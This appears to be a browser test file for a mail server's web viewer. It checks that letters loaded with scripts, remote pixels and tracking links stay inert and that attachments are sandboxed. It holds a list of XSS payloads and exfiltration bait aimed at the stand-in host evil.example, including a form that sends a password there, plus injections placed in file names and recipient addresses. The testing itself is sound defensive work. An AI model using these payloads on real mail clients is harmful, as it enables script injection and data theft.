/** Letters that would like to do harm to who reads them on the page: nothing runs, nothing is fetched from elsewhere. */

import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { testIf } from "./support/post_office.ts";
import { BRAIN, CHROMIUM, Desk } from "./support/desk.ts";

/** Says so when it runs. */
const RUN = "alert(document.domain)";
/** Ways to run a script or to fetch something, each of which some mail reader fell for. */
const EVIL = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}" id=evil-link>click me</a>`,
  `<form action="https://evil.example/" id=evil-form><input name=password><button>Go</button></form>`,
  `<img src="https://evil.example/pixel.png"><link rel=stylesheet href="https://evil.example/style.css">`,
  `<link rel=preconnect href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/"><div style="background:url(https://evil.example/ground.png)">x</div>`,
  `<style>@import url(https://evil.example/import.css); body{background:url(//evil.example/b.png)}</style>`,
  `<video src="https://evil.example/v.mp4" autoplay></video><object data="https://evil.example/o"></object>`,
  `"><script>${RUN}</script>`,
  `</textarea></title></style></pre><script>${RUN}</script>`,
];

function letterOf(html: string, subject: string): string {
  const name = `</td><script>${RUN}</script>.html`;
  return `From: "${html.replaceAll(/["\\]/g, "'")}" <jsmith@mindspring.com>\r\nTo: ${BRAIN}\r\n` +
    `Subject: ${subject}\r\nDate: <img src=x onerror=${RUN}>\r\nX-Evil: ${html}\r\nMIME-Version: 1.0\r\n` +
    "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n" +
    `--c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nplain ${html}\r\n` +
    `--c\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>the letter</p>${html}\r\n--c--\r\n` +
    `--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n` +
    `<script>${RUN}</script>\r\n--b\r\nContent-Type: image/svg+xml\r\n` +
    `Content-Disposition: attachment; filename="x.svg"\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>\r\n--b--\r\n`;
}

testIf(
  [CHROMIUM],
  "letters full of scripts, links and pixels do nothing, on any side of any view",
  async () => {
    await using desk = await Desk.open();
    for (const [i, html] of EVIL.entries()) {
      const text = letterOf(html, `${i} ${html}`);
      const reply = await desk.write({ from: "jsmith@mindspring.com", to: [BRAIN], text });
      assert(reply.startsWith("250"), reply);
    }
    const evilRecipient = `"<img src=x onerror=${RUN}>"@down.example`;
    await desk.write({ from: BRAIN, to: [evilRecipient], text: letterOf(EVIL[0]!, EVIL[1]!) });
    await desk.deferred(1);
    const page = await desk.visitor(`/mailboxes/${encodeURIComponent(BRAIN)}`);
    await page.waitForLoadState("networkidle");
    const links = await page.locator("tbody a.row-link").evaluateAll((all) =>
      all.map((a) => (a as unknown as { href: string }).href)
    );
    assertEquals(links.length, EVIL.length);
    for (const link of links) {
      for (const side of ["text", "html", "headers", "source"]) {
        await page.goto(`${link}?side=${side}`);
        if (side !== "html") continue;
        const frame = page.frameLocator("iframe");
        assertStringIncludes(await frame.locator("body").innerText(), "the letter");
        for (const bait of ["#evil-link", "#evil-form button"]) {
          if (await frame.locator(bait).count() > 0) await frame.locator(bait).click({ noWaitAfter: true });
        }
        await page.waitForLoadState("networkidle");
        assertEquals(page.url(), `${link}?side=${side}`);
      }
    }
    for (const path of ["/", "/queue", "/events", "/domains/down.example"]) {
      await page.goto(path);
    }
    await page.goto("/queue");
    await page.click("tbody a.row-link");
    await page.waitForSelector("#message-history");
    await page.waitForLoadState("networkidle");

    // attachments are never shown by the browser as what they say they are
    await page.goto(links[0]!);
    const attached = await page.locator("a[href*='/attachments/']").evaluateAll((all) =>
      all.map((a) => (a as unknown as { href: string }).href)
    );
    assertEquals(attached.length >= 2, true);
    for (const href of attached) {
      const response = await page.request.get(href);
      const headers = response.headers();
      assert(headers["content-disposition"]?.startsWith("attachment"), JSON.stringify(headers));
      assertStringIncludes(headers["content-security-policy"] ?? "", "sandbox");
      assertEquals(headers["x-content-type-options"], "nosniff");
    }
    // what the frame's policy stopped is told in the console; that is the proof, and no misdeed
    const real = desk.misdeeds.filter((m) =>
      !/^the console says: .*(Content Security Policy|sandboxed)/.test(m)
    );
    assertEquals(real, []);
  },
);

testIf([CHROMIUM], "a letter's own pictures are shown, and its remote ones are not", async () => {
  await using desk = await Desk.open();
  const pixel =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
  const text = `From: jsmith@mindspring.com\r\nTo: ${BRAIN}\r\nSubject: pictures\r\nMIME-Version: 1.0\r\n` +
    "Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" +
    '<img id=own src="cid:one@x"><img id=remote src="http://evil.example/x.png">\r\n' +
    "--b\r\nContent-Type: image/png\r\nContent-ID: <one@x>\r\nContent-Transfer-Encoding: base64\r\n" +
    `Content-Disposition: inline\r\n\r\n${pixel}\r\n--b--\r\n`;
  await desk.write({ from: "jsmith@mindspring.com", to: [BRAIN], text });
  const page = await desk.visitor(`/mailboxes/${encodeURIComponent(BRAIN)}`);
  await page.click("tbody a.row-link");
  await page.click("text=HTML");
  const frame = page.frameLocator("iframe");
  const width = (id: string) =>
    frame.locator(id).evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth);
  await frame.locator("#own").waitFor();
  assertEquals([await width("#own"), await width("#remote")], [1, 0]);
});
